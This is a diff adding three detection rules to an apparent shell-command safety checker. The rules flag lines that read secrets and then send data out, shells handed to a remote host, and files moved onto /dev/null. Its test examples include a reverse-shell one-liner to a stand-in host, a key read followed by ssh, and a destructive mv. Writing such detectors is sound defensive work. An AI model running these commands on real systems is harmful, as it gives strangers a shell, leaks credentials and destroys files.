@@ -1,0 +1,68 @@
+"""What only the whole of a line tells: effects that are harmless alone, and not beside each other."""
+
+from __future__ import annotations
+
+from collections.abc import Sequence
+
+from chimera_guard.context import Context
+from chimera_guard.effects.model import Effect
+from chimera_guard.risk import SecurityRisk
+from chimera_guard.rules.registry import line_rule
+
+HIGH = SecurityRisk.HIGH
+SENDS = frozenset({"send", "connect", "publish", "listen"})
+
+
+def _leaves(effect: Effect) -> bool:
+    """Whether something can go to another machine by this, and no rule for the effect alone says what."""
+    if "secret" in effect.taint or "secret" in effect.flags:
+        return False
+    return effect.kind in SENDS or (effect.scope == "remote" and effect.kind in ("write", "append"))
+
+
+@line_rule(
+    "secret-leaves",
+    HIGH,
+    reason="reads keys or other secrets, and sends something to {target}",
+    why="Whoever has them can act in your name until they are revoked.",
+    instead="send nothing from a line that reads secrets",
+    match=[("cat certs/server.key; ssh x.example", "key-of-project-read", "network-connects")],
+    not_match=["cat tests/server.key", "curl -d @x https://x.example"],
+)
+def secret_leaves(effects: Sequence[Effect], context: Context) -> Effect | None:
+    if not any(effect.scope == "credential" and effect.kind in ("read", "move", "link") for effect in effects):
+        return None
+    return next((effect for effect in effects if _leaves(effect)), None)
+
+
+@line_rule(
+    "shell-handed-over",
+    HIGH,
+    reason="starts a shell, and connects it with another machine",
+    why="Somebody else then types the commands, with your rights.",
+    instead="use ssh, which asks who is there",
+    match=[("bash -i >&/dev/tcp/x.example/99 0>&1", "network-raw")],
+    not_match=["bash -i", "ssh x.example"],
+)
+def shell_handed_over(effects: Sequence[Effect], context: Context) -> Effect | None:
+    shell = next((e for e in effects if e.kind == "exec-code" and "interactive" in e.flags), None)
+    if shell is None:
+        return None
+    raw = any(e.scope == "remote" and e.kind in ("write", "append", "read") for e in effects)
+    return shell if raw or any(e.kind == "listen" for e in effects) else None
+
+
+@line_rule(
+    "moved-to-nowhere",
+    HIGH,
+    reason="moves {target} onto a device that keeps nothing",
+    why="The file is gone, or, with the rights for it, the device that everything else relies on.",
+    instead="delete it with rm, if that is what you mean",
+    match=["mv notes.txt /dev/null"],
+    not_match=["cat notes.txt > /dev/null", "mv a b"],
+)
+def moved_to_nowhere(effects: Sequence[Effect], context: Context) -> Effect | None:
+    for first, second in zip(effects, effects[1:], strict=False):
+        if first.kind == "move" and second.kind == "write" and second.scope == "null" and first.span == second.span:
+            return first
+    return None
